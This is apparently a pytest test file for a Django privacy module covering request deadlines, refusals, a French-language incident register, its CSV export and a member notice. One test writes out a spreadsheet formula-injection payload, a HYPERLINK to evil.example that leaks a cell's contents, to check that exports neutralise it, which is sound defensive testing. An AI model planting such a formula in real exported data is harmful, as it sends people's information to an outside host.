import csv
import datetime
import io

import pytest
from django.utils import timezone

from hub.privacy.incidents import notice_text
from hub.privacy.models import Incident, PrivacyOfficer, PrivacyRequest

from .factories import IncidentFactory, PrivacyRequestFactory

pytestmark = pytest.mark.django_db


def test_a_request_is_due_30_days_after_it_was_received():
    request = PrivacyRequestFactory(received_on=datetime.date(2026, 11, 2))
    assert request.due_on == datetime.date(2026, 12, 2)
    assert request.is_open


def test_an_open_request_past_its_due_date_is_overdue():
    late = PrivacyRequestFactory(received_on=timezone.localdate() - datetime.timedelta(days=31))
    assert late.is_overdue
    late.status = PrivacyRequest.Status.DONE
    late.answer = "Copie envoyée par courriel."
    late.save()
    assert not late.is_overdue
    assert late.answered_on == timezone.localdate()


def admin_form(**overrides):
    data = {
        "kind": "deletion",
        "status": "received",
        "received_on": "2026-11-02",
        "requester_name": "Line Côté",
        "requester_contact": "line@exemple.org",
        "member": "",
        "details": "Supprimez mon compte, je n’ai plus accès à mon courriel.",
        "post_url": "",
        "answer": "",
        "refusal_reason": "",
        "handled_by": "",
    }
    data.update(overrides)
    return data


def test_staff_log_a_request_received_by_mail(staff_client):
    response = staff_client.post("/django-admin/privacy/privacyrequest/add/", admin_form())
    assert response.status_code == 302
    request = PrivacyRequest.objects.get()
    assert request.due_on == datetime.date(2026, 12, 2)


def test_a_refusal_needs_a_written_reason(staff_client):
    request = PrivacyRequestFactory(kind=PrivacyRequest.Kind.DELETION)
    url = f"/django-admin/privacy/privacyrequest/{request.pk}/change/"
    response = staff_client.post(url, admin_form(status="refused"))
    assert response.status_code == 200
    assert "Écrivez le motif du refus." in response.content.decode()
    request.refresh_from_db()
    assert request.status == "received"

    reason = "Nous devons garder ces factures 6 ans (Loi sur l’administration fiscale)."
    response = staff_client.post(url, admin_form(status="refused", refusal_reason=reason))
    assert response.status_code == 302
    request.refresh_from_db()
    assert request.status == "refused" and request.refusal_reason == reason
    assert request.handled_by == staff_client.staff


def test_a_deindex_request_names_the_post(staff_client):
    response = staff_client.post(
        "/django-admin/privacy/privacyrequest/add/", admin_form(kind="deindex")
    )
    assert response.status_code == 200
    assert "Indiquez l’adresse du message." in response.content.decode()


def test_the_queue_shows_overdue_requests(staff_client):
    PrivacyRequestFactory(
        requester_name="Ancienne demande",
        received_on=timezone.localdate() - datetime.timedelta(days=40),
    )
    PrivacyRequestFactory(requester_name="Nouvelle demande")
    html = staff_client.get("/django-admin/privacy/privacyrequest/?due=overdue").content.decode()
    assert "Ancienne demande" in html and "Nouvelle demande" not in html
    assert "en retard" in html


def test_staff_log_an_incident_with_the_regulations_fields(staff_client):
    response = staff_client.post(
        "/django-admin/privacy/incident/add/",
        {
            "information_description": "Noms et courriels de 12 inscrits à un webinaire",
            "circumstances": "Liste envoyée en copie visible à tous les inscrits.",
            "occurred_on": "2026-11-20",
            "occurred_until": "",
            "occurred_note": "",
            "learned_on": "2026-11-21",
            "persons_affected": "12",
            "risk_assessment": "Faible : adresses professionnelles, aucun autre renseignement.",
            "commission_notified_on": "",
            "persons_notified_on": "2026-11-22",
            "public_notice": "",
            "measures_taken": "Excuses, rappel des règles d’envoi, copie cachée imposée.",
        },
    )
    assert response.status_code == 302
    incident = Incident.objects.get()
    assert incident.persons_affected == 12 and incident.serious_injury_risk is False


def test_the_incident_register_exports_as_csv(staff_client):
    IncidentFactory(persons_affected=40, serious_injury_risk=True)
    response = staff_client.get("/django-admin/privacy/incident/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header = rows[0]
    for column in (
        "renseignements personnels concernés",
        "circonstances de l’incident",
        "date où l’organisme en a pris connaissance",
        "nombre de personnes concernées",
        "évaluation du risque de préjudice sérieux",
        "avis à la Commission d’accès à l’information transmis le",
        "avis aux personnes concernées transmis le",
        "mesures prises",
    ):
        assert column in header
    assert rows[1][header.index("nombre de personnes concernées")] == "40"


def test_a_formula_in_the_register_is_exported_as_text(staff_client):
    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'
    IncidentFactory(circumstances=formula, measures_taken="+1+1", public_notice="-2")
    response = staff_client.get("/django-admin/privacy/incident/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["circonstances de l’incident"] == "'" + formula
    assert row["mesures prises"] == "'+1+1"


def test_members_cannot_read_the_register(member_client):
    response = member_client.get("/django-admin/privacy/incident/export.csv")
    assert response.status_code == 302


def test_the_notice_to_members_is_filled_in_from_the_register(staff_client):
    officer = PrivacyOfficer.load()
    officer.name = "Mireille Gauthier"
    officer.save()
    incident = IncidentFactory(occurred_on=datetime.date(2026, 11, 3))
    text = notice_text(incident)
    assert "Incident de confidentialité" in text
    assert incident.information_description in text
    assert incident.circumstances in text
    assert "mardi 3 novembre 2026" in text
    assert incident.measures_taken in text
    assert "Ce que vous pouvez faire" in text
    assert "Mireille Gauthier" in text and "confidentialite@dataide.example" in text
    response = staff_client.get(f"/django-admin/privacy/incident/{incident.pk}/avis/")
    assert response.status_code == 200
    assert incident.measures_taken in response.content.decode()
    english = staff_client.get(f"/django-admin/privacy/incident/{incident.pk}/avis/?lang=en")
    assert "What you can do" in english.content.decode()
